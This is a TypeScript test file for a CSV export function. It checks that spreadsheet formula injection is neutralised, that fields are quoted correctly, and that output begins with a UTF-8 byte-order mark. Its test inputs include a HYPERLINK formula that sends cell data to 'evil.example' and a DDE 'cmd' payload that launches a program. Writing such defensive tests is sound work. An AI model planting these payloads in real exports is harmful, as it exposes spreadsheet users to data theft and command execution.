import { csvOf } from '../../../bot/numbers/csv.ts';

const cellOf = (text: string) => csvOf([[text]]).slice(1, -2);

it.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '\u00a0=1',
  '\uFEFF=1',
  '＝1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"go")',
  "=cmd|' /C calc'!A0",
])('lets no spreadsheet take %j for a formula', (text) => {
  expect(cellOf(text).replace(/^"/, '')).toMatch(/^'/);
});

it('encloses what would break a row, and doubles the quotes in it', () => {
  expect(csvOf([['a,b', 'c"d', 'e\r\nf', 'g;h', 'plain', 7, -7]])).toBe(
    '\uFEFF"a,b","c""d","e\r\nf","g;h",plain,7,-7\r\n',
  );
});

it('begins with the mark by which spreadsheets know UTF-8', () => {
  expect(Buffer.from(csvOf([['数']])).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
});
